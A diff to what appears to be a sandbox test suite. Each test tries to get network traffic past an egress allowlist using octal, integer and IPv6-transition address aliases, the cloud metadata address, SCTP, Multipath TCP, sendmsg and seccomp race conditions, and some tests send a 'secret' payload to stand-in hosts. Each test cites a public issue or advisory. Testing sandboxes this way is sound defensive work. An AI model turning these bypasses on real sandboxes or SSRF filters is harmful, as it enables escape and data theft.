@@ -1,16 +1,16 @@
 """Attempts by addresses."""
-import ctypes, os, pathlib, socket, struct, threading, time
+import ctypes, os, socket, struct, threading, time
 
-from attempts import ALLOWED, LIBC, OTHER, PRIVATE, SEEN_ADDRESS, address_of, attempt, quietly, send, tcp
+from attempts import ALLOWED, LIBC, OTHER, PRIVATE, SEEN_ADDRESS, address_of, attempt, listening, quietly, send, tcp
 
 
 # Addresses.
-@attempt()
+@attempt("cilium/cilium#31803: Egress rules allow traffic to a FQDN if its IP is that of an allowed FQDN")
 def the_address_of_an_allowed_name():
     tcp(ALLOWED, 80), tcp(ALLOWED, 443)
 
 
-@attempt()
+@attempt("anthropic-experimental/sandbox-runtime#274: Network policy is hostname-only")
 def other_ports_of_an_allowed_name():
     found = address_of("allowed.example")
     for port in (7, 22, 25, 81, 444, 8443, 65535):
@@ -24,20 +24,20 @@ def synthetic_addresses_of_nobody():
         tcp(f"198.18.0.{last}", 7), tcp(f"198.19.255.{last}", 80)
 
 
-@attempt()
+@attempt("denoland/deno#21227: Deno should block access to local network unless explicitly permitted")
 def other_addresses():
     for address in (OTHER, PRIVATE, "169.254.169.254", "8.8.8.8", "224.0.0.1", "255.255.255.255", "203.0.113.53"):
         for port in (53, 80, 443):
             tcp(address, port, b"x")
 
 
-@attempt()
+@attempt("GHSA-v8fw-85r8-5m23: Deno: numeric hostname aliases bypass deny checks")
 def numbers_for_addresses():
     for text in ("0xcb00710b", "3405803787", "0313.0.0161.013", "203.0.28939", "0x7f.1", "2130706433", "127.1"):
         quietly(lambda: socket.create_connection((text, 80), timeout=2).sendall(b"x"))
 
 
-@attempt()
+@attempt("GHSA-j8q9-r9pq-2hh9: SSRF guard bypass via IPv6-to-IPv4 transition addresses")
 def addresses_of_ipv6():
     for address in (f"::ffff:{OTHER}", f"::{OTHER}", "64:ff9b::203.0.113.11", "2002:cb00:710b::1", "2001:db8::10",
                     "::ffff:198.18.0.9", "fe80::1%lo", "ff02::1", "2001:0:cb00:710b::"):
@@ -48,17 +48,13 @@ def addresses_of_ipv6():
 @attempt()
 def the_brokers_own_ports():
     address_of("allowed.example")
-    ports = set()
-    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
-        for row in pathlib.Path(table).read_text().splitlines()[1:]:
-            ports.add(int(row.split()[1].rsplit(":", 1)[1], 16))
-    for port in ports:
+    for port in listening():
         for address in ("127.0.0.1", "198.18.0.2", "198.18.0.3", OTHER, PRIVATE, "0.0.0.0"):
             tcp(address, port)
         tcp("::1", port, family=socket.AF_INET6), tcp(f"::ffff:{OTHER}", port, family=socket.AF_INET6)
 
 
-@attempt()
+@attempt("landlock-lsm/linux#41: Restrict TCP Fast Open connection")
 def fast_open():
     address_of("allowed.example")
     for address in (OTHER, "198.18.0.2", PRIVATE):
@@ -89,7 +85,7 @@ def families_that_do_not_fit():
                 quietly(lambda: s.send(b"x"))
 
 
-@attempt(seen=SEEN_ADDRESS)
+@attempt("multikernel/sandlock#27: Sandbox escape by racing seccomp notifications?", seen=SEEN_ADDRESS)
 def an_address_that_changes_meanwhile():
     buffer = ctypes.create_string_buffer(16)
     good = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton("203.0.113.15"))
@@ -110,7 +106,7 @@ def an_address_that_changes_meanwhile():
     over.append(1)
 
 
-@attempt(seen=SEEN_ADDRESS)
+@attempt("sysprog21/kbox#40: Audit CONTINUE dispatches for TOCTOU races", seen=SEEN_ADDRESS)
 def a_socket_that_is_exchanged_meanwhile():
     with socket.socket() as s, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
         spare, over = os.dup(s.fileno()), []
@@ -145,3 +141,38 @@ def connections_that_do_not_wait():
             s.connect_ex((address, 80))
             time.sleep(0.2)
             quietly(lambda: s.send(b"x"))
+
+
+@attempt("CVE-2021-29922: Rust: leading zeros of IPv4 addresses (rust-lang/rust#83648); CVE-2021-28918: netmask")
+def addresses_in_octal():
+    for text in ("0313.0000.0161.0013", "203.0.113.013", "031300070413", "012.0.0.1", "0251.0376.0251.0376", "0177.1"):
+        quietly(lambda: socket.create_connection((text, 80), timeout=2).sendall(b"x")), address_of(text)
+
+
+@attempt("landlock-lsm/linux#54: Restrict Multipath TCP")
+def multipath_tcp():
+    for address in (OTHER, PRIVATE, "198.18.0.2"):
+        tcp(address, 80, proto=262)
+
+
+@attempt("landlock-lsm/linux#40: Restrict SCTP bind/connect via setsockopt")
+def sctp_by_an_option():
+    packed = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(OTHER))
+    for kind in (socket.SOCK_STREAM, 5):
+        def talk():
+            with socket.socket(socket.AF_INET, kind, 132) as s:
+                s.settimeout(1)
+                s.setsockopt(132, 110, packed)
+                s.send(b"secret")
+
+        quietly(talk)
+
+
+@attempt("multikernel/sandlock#28: sendmsg fell through to Continue, past the IP allowlist")
+def messages_with_an_address():
+    for flags in (0, 0x20000000):
+        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+            for address in ((OTHER, 80), (PRIVATE, 9), ("203.0.113.53", 9)):
+                with socket.socket(socket.AF_INET, kind) as s:
+                    s.settimeout(1)
+                    quietly(lambda: s.sendmsg([b"secret"], [], flags, address))
